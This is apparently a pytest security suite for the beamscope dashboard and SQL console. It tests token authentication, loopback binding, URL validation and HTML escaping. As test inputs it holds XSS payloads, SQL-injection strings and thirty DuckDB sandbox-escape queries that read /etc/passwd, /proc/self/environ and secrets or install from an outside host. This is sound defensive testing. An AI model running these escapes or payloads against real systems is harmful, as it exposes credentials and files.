"""Security of the dashboard and ``beamscope sql``: loopback by default, a token on every request
elsewhere, validated URLs, the SQL console's sandbox against escape attempts, user text as text.

It includes the regressions of four dashboard bugs this suite found (a non-ASCII token, non-ASCII
digits in sentence ids, infinite explorer filters, HTML tags in tokens shown by plotly).
"""

from __future__ import annotations

import re
import socket
import time
from pathlib import Path

import pytest

from beamscope.cli import build_parser, main
from bench.dash_client import DashClient, FlaskTransport, component_props, texts
from dashboard import figures
from dashboard.server import build
from tests.helpers import trace_run
from tests.reliability import harness as h

DASHBOARD = Path(__file__).resolve().parents[2] / "dashboard"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)> 5.3.21",
    '"><svg onload=alert(3)>',
    "<b>bold</b> <br> <a href='https://e.vil'>x</a>",
]
# 30 escape attempts, none of them in tests/warehouse/test_sandbox.py's 72 ({wh}: the warehouse)
ESCAPES = [
    "SELECT * FROM read_ndjson_auto('/etc/passwd')",
    "SELECT * FROM sentences UNION ALL BY NAME SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_json_objects('/etc/hostname')",
    "SELECT * FROM parquet_schema('{wh}/tables/runs/run=a/part-00000.parquet')",
    "SELECT * FROM glob('{wh}/**')",
    "FROM read_text('/proc/self/environ')",
    "SELECT * FROM duckdb_extensions()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM pragma_database_list()",
    "SELECT getvariable('x')",
    "ATTACH ':memory:' AS m",
    "SELECT * FROM 'file:///etc/passwd'",
    "SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])",
    "SELECT * FROM read_csv('/etc/pass' || 'wd')",
    "SELECT * FROM raw.runs; COPY raw.runs TO '/tmp/beamscope-x.csv'",
    "LOAD '/tmp/evil.duckdb_extension'",
    "SELECT * FROM query_table('/etc/passwd')",
    'SELECT * FROM "tables/runs/run=a/part-00000.parquet"',
    "SELECT * FROM system.information_schema.tables",
    "SELECT * FROM (VALUES (1)) t(x), read_text('/etc/hostname')",
    "INSTALL '/tmp/x' FROM 'http://e.vil'",
    "SELECT * FROM iceberg_scan('/tmp')",
    "SELECT * FROM sql_auto_complete('SELECT')",
    "SELECT * FROM which_secret('s3://x', 's3')",
    "SELECT * FROM temp.main.duckdb_tables()",
    "SELECT * FROM sentences AS s JOIN read_blob('/etc/hostname') b ON true",
    "SELECT list_transform([1], x -> (SELECT content FROM read_text('/etc/hostname')))",
    "SELECT * FROM json_each((SELECT content FROM read_text('/etc/hostname')))",
    "SELECT * FROM range(3) r, LATERAL read_text('/etc/hostname')",
    "SELECT * FROM runs WHERE run_id IN (SELECT content FROM read_text('/etc/hostname'))",
]
SECRETS = ("root:", socket.gethostname())  # what a successful read of /etc/passwd or hostname shows


@pytest.fixture(scope="module")
def hostile_wh(tmp_path_factory, tiny_dir) -> Path:
    """A complete run 'a' whose sources and references are HTML/JS."""
    d = tmp_path_factory.mktemp("security")
    corpus = d / "hostile.tsv"
    corpus.write_text("".join(f"{s}\t{s.upper()}\n" for s in HOSTILE) + "5.3.21\t2021-03-05\n")
    trace_run(tiny_dir, corpus, d / "wh", "a")
    return d / "wh"


@pytest.fixture(scope="module")
def dash(hostile_wh) -> DashClient:
    client = DashClient(FlaskTransport(build(str(hostile_wh)).server.test_client()))
    assert client.request("index", "GET", "/")[0] == 200
    client.load_dependencies()
    return client


# -- binding and the token ------------------------------------------------------------------------
def _listening(port: int) -> list[str]:
    """Local addresses (hex, as /proc/net/tcp{,6} shows them) listening on ``port``."""
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            if state == "0A" and int(local.rsplit(":", 1)[1], 16) == port:
                found.append(local.rsplit(":", 1)[0])
    return found


def test_serve_binds_to_loopback_by_default(hostile_wh, tmp_path) -> None:
    assert build_parser().parse_args(["serve", "--warehouse", "wh"]).host == "127.0.0.1"
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = h.start_cli_child(
        ["serve", "--warehouse", str(hostile_wh), "--port", str(port)], tmp_path / "s.log"
    )
    try:
        assert h.wait_for(lambda: bool(_listening(port)) or not proc.is_alive(), timeout=120)
        time.sleep(0.2)
        assert _listening(port) == ["0100007F"], (tmp_path / "s.log").read_text()  # 127.0.0.1 only
    finally:
        proc.kill()
        proc.join()


ROUTES = [
    ("GET", "/"),
    ("GET", "/sentences?run=a"),
    ("GET", "/sql"),
    ("GET", "/run/a/sentence/0"),
    ("GET", "/_dash-layout"),
    ("GET", "/_dash-dependencies"),
    ("GET", "/_reload-hash"),
    ("GET", "/_favicon.ico"),
    ("GET", "/assets/style.css"),
    ("GET", "/no/such/page"),
    ("POST", "/_dash-update-component"),
    ("HEAD", "/"),
    ("OPTIONS", "/_dash-update-component"),
]


def test_every_route_and_method_needs_the_token_off_loopback(hostile_wh) -> None:
    app = build(str(hostile_wh), host="0.0.0.0", token="s3cret")
    client = app.server.test_client()
    component = app.server.test_client()
    suite = re.search(r'src="(/_dash-component-suites/[^"]+)"', component.get("/?token=s3cret").text)
    assert suite, "no component suite script in the index page"
    for method, path in [*ROUTES, ("GET", suite.group(1))]:
        r = client.open(path, method=method, json={} if method == "POST" else None)
        assert r.status_code == 401, (method, path, r.status_code)
        assert b"beamscope" not in r.data or b"token is required" in r.data, (method, path)
    for headers, query in [
        ({"Authorization": "Bearer s3cre"}, ""),
        ({"Authorization": "Bearer s3cret2"}, ""),
        ({"Authorization": "Basic s3cret"}, ""),
        ({"Cookie": "beamscope_token=nope"}, ""),
        ({}, "?token="),
        ({}, "?token=S3CRET"),
        ({}, "?tok=s3cret"),
    ]:
        assert app.server.test_client().get("/_dash-layout" + query, headers=headers).status_code == 401
    fresh = app.server.test_client()
    assert fresh.get("/_dash-layout", headers={"Authorization": "Bearer s3cret"}).status_code == 200
    assert fresh.get(suite.group(1), headers={"Authorization": "Bearer s3cret"}).status_code == 200


def test_a_non_ascii_token_is_refused_not_an_error(hostile_wh) -> None:
    app = build(str(hostile_wh), host="0.0.0.0", token="s3cret")
    assert app.server.test_client().get("/_dash-layout?token=%C3%A9").status_code == 401


# -- URLs -----------------------------------------------------------------------------------------
def _page_text(dash: DashClient, path: str, search: str = "") -> str:
    layout = dash.page("page", path, search)
    assert layout is not None, path
    return " ".join(texts(layout))


@pytest.mark.parametrize(
    "sent_id",
    [
        "-1",
        "1.0",
        "1e3",
        "0x10",
        "+1",
        " 1",
        "1 OR 1=1",
        "1;DROP TABLE runs",
        "%27",
        "99999999999999999999",
        "abc",
    ],
)
def test_bad_sentence_ids_in_urls_are_not_found(dash, sent_id) -> None:
    assert "Not found" in _page_text(dash, f"/run/a/sentence/{sent_id}")


@pytest.mark.parametrize("run", ["..%2F..%2Fetc", "a'--", "a%00", "b", "a OR 1=1"])
def test_bad_run_ids_in_urls_are_not_found(dash, run) -> None:
    assert "No complete run of that name" in _page_text(dash, f"/run/{run}/sentence/0")


def test_a_good_sentence_url_renders(dash) -> None:
    assert "Not found" not in _page_text(dash, "/run/a/sentence/1")


@pytest.mark.parametrize("sent_id", ["²", "١"])
def test_non_ascii_digits_in_sentence_ids_are_not_found(dash, sent_id) -> None:
    status, resp = dash.call(
        "page",
        dash.dep("_pages_content.children"),
        {"_pages_location.pathname": f"/run/a/sentence/{sent_id}"},
    )
    assert status == 200 and "Not found" in " ".join(texts(resp["response"]["_pages_content"]["children"]))


@pytest.mark.parametrize("value", ["inf", "nan"])
def test_malformed_explorer_filters_are_ignored(dash, value) -> None:
    status, _ = dash.call(
        "page",
        dash.dep("_pages_content.children"),
        {"_pages_location.pathname": "/sentences", "_pages_location.search": f"?run=a&min_len={value}"},
    )
    assert status == 200


# -- the SQL console, the explorer's SQL condition and `beamscope sql` ----------------------------
def test_sql_console_refuses_thirty_escape_attempts(dash, hostile_wh) -> None:
    dep = dash.dep("sql-grid.rowData")
    refused = 0
    for query in ESCAPES:
        status, resp = dash.call(
            "sql", dep, {"sql-run.n_clicks": 1}, {"sql-text.value": query.format(wh=hostile_wh)}
        )
        assert status == 200, query
        out = resp["response"]
        message = str(out["sql-message"]["children"])
        assert out["sql-message"]["className"] == "error" and message.startswith("refused: "), (
            query,
            message,
        )
        assert out["sql-grid"]["rowData"] == [] and "\n" not in message
        assert not any(s in str(out) for s in SECRETS), query
        refused += 1
    assert refused == len(ESCAPES) == 30
    status, resp = dash.call(
        "sql", dep, {"sql-run.n_clicks": 1}, {"sql-text.value": "SELECT count(*) AS n FROM runs"}
    )
    assert resp["response"]["sql-grid"]["rowData"] == [{"n": 1}]  # and a plain query still answers


@pytest.mark.parametrize(
    "where",
    [
        "true) OR (SELECT count(*) FROM read_text('/etc/hostname')) > 0 OR (true",
        "1=1) UNION ALL SELECT content FROM read_text('/etc/passwd') --",
        "true; COPY runs TO '/tmp/beamscope-x.csv'",
        "getenv('HOME') IS NOT NULL",
    ],
)
def test_explorer_sql_condition_goes_through_the_sandbox(dash, where) -> None:
    request = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}
    status, resp = dash.call(
        "rows",
        dash.dep("grid.getRowsResponse"),
        {"grid.getRowsRequest": request},
        {"filters.data": {"run": "a", "where": where}},
    )
    out = resp["response"]
    assert out["grid"]["getRowsResponse"] == {"rowData": [], "rowCount": 0}, where
    assert re.match(r"(refused|SQL error): ", str(out["grid-error"]["children"])), out
    assert not any(s in str(out) for s in SECRETS)


def test_beamscope_sql_refuses_the_same_escapes(hostile_wh, capsys) -> None:
    for query in ESCAPES:
        assert main(["sql", "--warehouse", str(hostile_wh), query.format(wh=hostile_wh)]) == 2, query
        out, err = capsys.readouterr()
        assert out == "" and err.startswith("beamscope: error: refused: ") and err.count("\n") == 1, (
            query,
            err,
        )
    assert not Path("/tmp/beamscope-x.csv").exists()


# -- user text is text ----------------------------------------------------------------------------
def test_no_component_renders_html(hostile_wh) -> None:
    """No dcc.Markdown, dangerously_allow_html, Iframe/srcDoc or AG Grid HTML/markdown renderers."""
    banned = re.compile(
        r"Markdown|dangerously_allow|allow_html|Iframe|srcDoc|innerHTML|cellRenderer|html\.Script"
    )
    offenders = [
        f"{p.relative_to(DASHBOARD)}:{i}: {line.strip()}"
        for p in sorted(DASHBOARD.rglob("*.py"))
        for i, line in enumerate(p.read_text().splitlines(), 1)
        if banned.search(line)
    ]
    assert offenders == []


def _strings_with_component(node: object, parent: str = "") -> list[tuple[str, str, str]]:
    """(component type, prop, string) for every string in a serialised layout."""
    out, stack = [], [(node, parent, "")]
    while stack:
        item, comp, prop = stack.pop()
        if isinstance(item, str):
            out.append((comp, prop, item))
        elif isinstance(item, list):
            stack.extend((x, comp, prop) for x in item)
        elif isinstance(item, dict):
            if "type" in item and isinstance(item.get("props"), dict):
                name = f"{item.get('namespace')}.{item['type']}"
                stack.extend((v, name, k) for k, v in item["props"].items())
            else:
                stack.extend((v, comp, prop) for v in item.values())
    return out


@pytest.mark.parametrize("sent_id", range(len(HOSTILE)))
def test_hostile_sentence_text_is_rendered_as_text(dash, sent_id) -> None:
    layout = dash.page("sentence", f"/run/a/sentence/{sent_id}")
    found = [(c, p) for c, p, s in _strings_with_component(layout) if HOSTILE[sent_id] in s]
    assert found, "the source is shown"
    # only as text: children of plain HTML elements (React escapes them), the value of a text input
    # (the what-if editor), or inside a figure (see test_tokens_in_figures_are_escaped)
    safe = {("dash_core_components.Input", "value"), ("dash_core_components.Textarea", "value")}
    assert all(
        (c.startswith("dash_html_components.") and p == "children") or (c, p) in safe or p == "figure"
        for c, p in found
    ), found


@pytest.mark.parametrize("search", ["?a=a&b=a&sent=0", "?a=a&b=a&sent=1"])
def test_hostile_text_in_the_two_run_view_is_rendered_as_text(dash, search) -> None:
    layout = dash.page("compare sentence", "/compare/sentence", search)
    hostile = HOSTILE[int(search[-1])]
    found = [(c, p) for c, p, s in _strings_with_component(layout) if hostile in s]
    assert found, "the source is shown"
    assert all((c.startswith("dash_html_components.") and p == "children") or p == "figure" for c, p in found)


def test_hostile_text_in_explorer_rows_is_plain_data(dash) -> None:
    request = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}
    layout = dash.page("explorer", "/sentences", "?run=a")
    grid = component_props(layout)["grid"]
    assert not any(k in str(c) for c in grid["columnDefs"] for k in ("cellRenderer", "markdown", "html"))
    assert "dangerously_allow_code" not in grid and "dangerously_allow_code" not in str(
        grid.get("dashGridOptions")
    )
    status, resp = dash.call(
        "rows",
        dash.dep("grid.getRowsResponse"),
        {"grid.getRowsRequest": request},
        {"filters.data": {"run": "a"}},
    )
    rows = resp["response"]["grid"]["getRowsResponse"]["rowData"]
    assert {r["source"] for r in rows} >= set(HOSTILE)


def test_tokens_in_figures_are_escaped() -> None:
    tokens = ["<b>x</b>", "<a href='https://e.vil'>y</a>", "<br>"]
    fig = figures.attention_heatmap([[0.5, 0.3, 0.2]], tokens, ["<br>"], "attention")
    labels = [*fig.data[0].x, *fig.data[0].y]
    assert not any("<" in label for label in labels), labels
